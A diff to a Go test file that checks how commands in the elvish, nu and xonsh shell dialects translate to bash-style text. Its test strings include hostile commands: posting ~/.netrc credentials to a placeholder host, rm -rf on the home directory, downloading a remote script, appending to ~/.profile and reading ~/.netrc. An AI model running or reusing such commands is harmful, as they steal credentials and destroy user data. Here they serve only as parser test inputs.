@@ -29,10 +29,12 @@ func TestDialectText(t *testing.T) {
 		{"elvish", `curl -d (slurp < ~/.netrc) u; rm -rf $E:HOME`, "curl -d $(cat < ~/.netrc) u\nrm -rf $HOME\n"},
 		{"nu", `open --raw ~/.netrc | http post https://x $in`, "cat ~/.netrc | curl -s -X POST --data-binary @- https://x\n"},
 		{"nu", `ls | where size > 1mb`, "ls | where size '>' 1mb\n"},
+		{"nu", `ls | where modified > ((date now) - 1day)`, "ls | where modified '>' $(echo $(date now) - 1day)\n"},
 		{"nu", `^sudo make install; rm -rf $env.HOME`, "sudo make install\nrm -rf ${HOME}\n"},
 		{"nu", `http get https://x/a.nu | save -f /tmp/a.nu`, "curl -s -X GET https://x/a.nu | tee /tmp/a.nu\n"},
 		{"nu", `"x" | save --append ~/.profile`, "echo \"x\" | tee -a ~/.profile\n"},
-		{"xonsh", `$X = "t"; rm -rf @($HOME)`, "export X=\"t\"\nrm -rf $HOME\n"},
+		{"xonsh", `$X = "t"; rm -rf @($HOME)`, "export X=\"t\"\nrm -rf ${HOME}\n"},
+		{"xonsh", `cat @($HOME)/.netrc`, "cat ${HOME}/.netrc\n"},
 		{"bash", `echo (x)`, `echo (x)`},
 	}
 	for _, c := range cases {
